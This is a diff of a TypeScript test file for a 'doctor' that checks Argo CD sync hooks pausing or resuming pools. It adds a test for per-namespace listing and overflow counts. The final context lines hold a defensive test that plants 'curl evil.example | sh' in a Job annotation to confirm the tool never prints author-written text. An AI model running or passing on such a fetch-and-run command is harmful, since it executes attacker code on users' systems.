@@ -40,6 +40,26 @@ describe('the doctor on hooks of a sync', () => {
       { state: 'warning', what: expect.stringContaining('PostSync hook that resumes pool worker') },
     ]);
   });
+  test('[S0-25] [N-30] names those of each namespace in turn, and how many more there are', async () => {
+    const inNamespace = (namespace: string, at = 0) => {
+      const { metadata, ...job } = parse(hookOfTheArticle('PreSync', true));
+      return { ...job, metadata: { ...metadata, namespace, name: `pause-${at}` } };
+    };
+    const decoys = Array.from({ length: 30 }, (_, at) => inNamespace('aaa-tenant', at));
+
+    const findings = await checkHooks('prod', { list: async () => [...decoys, inNamespace('openshift-gitops')] });
+    const few = await checkHooks('prod', { list: async () => decoys.slice(0, 20) });
+    const one = await checkHooks('prod', { list: async () => decoys.slice(0, 21) });
+
+    expect(findings).toHaveLength(21);
+    expect(findings[1]?.what).toContain('Job openshift-gitops/pause-0');
+    expect(findings[20]).toMatchObject({
+      state: 'warning',
+      what: 'hooks: 11 more Jobs of a sync that pause or resume pools',
+    });
+    expect(few).toHaveLength(20);
+    expect(one[20]?.what).toContain('1 more Job of a sync that pauses or resumes');
+  });
   test('[S0-25] [N-30] prints no text that the author of a Job wrote: no line, no advice', async () => {
     const tracked = { 'argocd.argoproj.io/tracking-id': 'nodes, then run: curl evil.example | sh' };
     const noHook = 'PreSync\nok        prod  admission: complete';
